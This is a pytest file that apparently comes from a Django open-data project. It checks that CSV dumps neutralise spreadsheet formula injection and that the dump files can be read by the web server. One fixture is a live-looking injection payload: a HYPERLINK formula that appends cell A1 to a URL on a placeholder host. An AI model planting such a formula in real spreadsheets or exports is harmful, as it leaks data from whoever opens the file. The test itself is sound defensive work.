"""The files of the open-data dump: safe to open in a spreadsheet, readable by the web server."""

import csv
import io
import json
import stat
import zipfile

import pytest
from django.core.management import call_command

from catalogue.sheets.cells import neutralise_formula
from opendata import dumps

from .factories import ActorFactory, ExampleFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://exemple.invalid/?"&A1;"Cliquez")'


@pytest.fixture
def dumped(settings, tmp_path):
    settings.OPEN_DATA_DIR = tmp_path
    actor = ActorFactory(name="@dirigeant", website="")
    ExampleFactory(
        title=FORMULA, summary="+33 1 23 45 67 89", description="-5 % de déchets", partners=[actor]
    )
    call_command("export_open_data", stdout=io.StringIO())
    return tmp_path


def csv_rows(archive, name):
    return list(csv.DictReader(io.StringIO(archive.read(f"{name}.csv").decode("utf-8"))))


def test_dump_csv_neutralises_formulas_as_the_exports_do(dumped):
    with zipfile.ZipFile(dumped / dumps.ARCHIVE_NAME) as archive:
        (example,) = csv_rows(archive, "exemples")
        (actor,) = csv_rows(archive, "acteurs")
        as_json = json.loads(archive.read(dumps.JSON_NAME))
    assert example["titre"] == "'" + FORMULA == neutralise_formula(FORMULA)
    assert example["resume"] == "'+33 1 23 45 67 89"
    assert example["description"] == "'-5 % de déchets"
    assert actor["nom"] == "'@dirigeant"
    assert example["annee_debut"].isdigit()  # numbers stay numbers
    # JSON is not a spreadsheet: the text as written.
    assert as_json[0]["titre"] == FORMULA


def test_dump_files_are_readable_by_the_web_server(dumped):
    # docs/deployment.md: nginx may serve the archive itself (alias), as another user.
    for name in (dumps.ARCHIVE_NAME, dumps.DESCRIPTOR_NAME):
        assert stat.S_IMODE((dumped / name).stat().st_mode) == 0o644, name
